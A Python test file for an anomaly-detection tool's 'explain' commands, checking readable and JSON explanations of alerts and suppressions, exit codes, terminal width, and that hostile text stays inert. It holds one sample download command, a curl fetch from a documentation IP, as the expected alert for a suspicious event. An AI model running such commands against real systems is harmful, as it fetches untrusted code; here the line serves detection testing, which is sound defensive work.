"""`models explain` and `alerts explain`: readable on a terminal, inert, and whole as JSON."""

import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from unicodedata import category

import pytest
from hypothesis import given, settings
from rich.console import Console
from tests.cli.commands import foreseen
from tests.models.histories import hostile_text, moments
from tests.studies.judged import HOSTILE, OWN, RULE, Judged, judged

from foreseen.cli.explain import show
from foreseen.models.explaining.explained import explained
from foreseen.models.moments.moment import Moment
from foreseen.studies.explanation import Explanation, explain_match


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("explain")
    with judged(folder):
        yield folder


def told(of: Judged, uid: str, width: int, most: int | None = 8) -> str:
    """What a terminal of a width shows of a match."""
    return printed(explain_match(of.lake, of.engine, OWN, uid), width, most)


def printed(found: Explanation, width: int, most: int | None) -> str:
    """Without the codes of bold type, which are ours."""
    out = io.StringIO()
    to = Console(file=out, width=width, force_terminal=True, no_color=True, highlight=False)
    show(found, to, most)
    return out.getvalue().replace("\x1b[1m", "").replace("\x1b[0m", "")


def test_an_alert_is_explained_in_words(data: Path) -> None:
    shown = foreseen("alerts", "explain", "odd", "--data", data)
    assert shown.code == 0
    out = " ".join(shown.out.split())
    for words in (
        "Download tool: curl -o /srv/x http://203.0.113.9/x",
        "Alerted: it was not to be expected.",
        "gives the same answer to the last bit",
        "neither 'nginx: <word>' nor any nginx led to curl: 0 of 300 expected matches on web.",
        "execve wget x2 0 of 300",
        "+ execve wget x2",
        "It would have been expected",
    ):
        assert words in out
    assert foreseen("models", "explain", "odd", "--data", data).out in shown.out


def test_a_suppression_is_explained_in_words(data: Path) -> None:
    shown = foreseen("models", "explain", "late-4", "--data", data)
    out = " ".join(shown.out.split())
    assert shown.code == 0
    for words in (
        "Suppressed: it was to be expected.",
        "led to this: 75 of 300 expected matches on web.",
        "1. 100.0% alike: match m-",
        "The smallest change that would have made it unexpected",
    ):
        assert words in out


def test_json_holds_all_of_it(data: Path) -> None:
    (found,) = foreseen("models", "explain", "odd", "--json", "--data", data).rows
    assert (found["outcome"], found["same"]) == ("alerted", True)
    assert {"act", "parent", "user"} <= {
        e["member"] for e in found["answer"]["prediction"]["evidence"]
    }
    (wget,) = [s for s in found["answer"]["shares"] if s["token"] == "execve wget"]  # noqa: S105
    assert (wget["section"], wget["times"], wget["seen"]["of"]) == ("before", 2, 300)
    marks = [step["mark"] for step in found["answer"]["nearest"][0]["events"]["before"]]
    assert marks.count("+") == 3
    assert found["answer"]["turned"]["ways"][0]["changes"][0]["words"]
    (alert,) = foreseen("alerts", "explain", "odd", "--json", "--data", data).rows
    assert alert["alert"]["uid"] == "odd"
    assert alert["answer"] == found["answer"]


@pytest.mark.parametrize("words", [("models", "explain"), ("alerts", "explain")])
def test_what_is_not_there_ends_with_three_and_says_so(data: Path, words: tuple[str, str]) -> None:
    shown = foreseen(*words, "unheard", "--data", data)
    assert (shown.code, shown.out) == (3, "")
    assert "unheard" in shown.err
    assert foreseen(*words, "odd", "--data", data / "elsewhere").code == 3
    assert foreseen(*words, "--data", data).code == 2


@pytest.fixture(scope="module")
def one(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Judged]:
    with judged(tmp_path_factory.mktemp("shown")) as found:
        yield found


@pytest.mark.parametrize("width", [80, 120])
@pytest.mark.parametrize("most", [8, None])
@pytest.mark.parametrize("uid", ["odd", "late-4", "hostile", "unmarked"])
def test_no_line_is_wider_than_the_terminal(
    one: Judged, uid: str, width: int, most: int | None
) -> None:
    lines = told(one, uid, width, most).split("\n")
    assert max(map(len, lines)) <= width


def test_a_wide_terminal_tells_the_same_words_as_a_narrow_one(one: Judged) -> None:
    narrow, wide = (told(one, "odd", width, None) for width in (80, 200))
    assert "".join(narrow.split()) == "".join(wide.split())


def test_hostile_text_is_shown_and_obeyed_by_nothing(one: Judged) -> None:
    shown = told(one, "hostile", 80, None)
    assert "[red]" in shown
    assert "·[2J" in shown
    assert {letter for letter in shown if category(letter) in {"Cc", "Cf"}} == {"\n"}
    assert HOSTILE not in shown


@pytest.mark.long
@settings(max_examples=25, deadline=None)
@given(moments(), moments(), hostile_text)
def test_whatever_a_sender_writes_is_explained_and_inert(
    one: Judged, of: Moment, other: Moment, text: str
) -> None:
    foresight = one.stored.foresight
    answer = explained(foresight, RULE, of, {other.uid: (other, 0.5)}, 0.02)
    stored = explain_match(one.lake, one.engine, OWN, "odd")
    found = replace(stored, answer=answer, happened=text, workload=text, gone=(text,))
    for most in (3, None):
        shown = printed(found, 80, most)
        assert {letter for letter in shown if category(letter) in OBEYED} == {"\n"}
        assert max(map(len, shown.split("\n"))) <= 80


OBEYED = {"Cc", "Cf", "Zl", "Zp"}
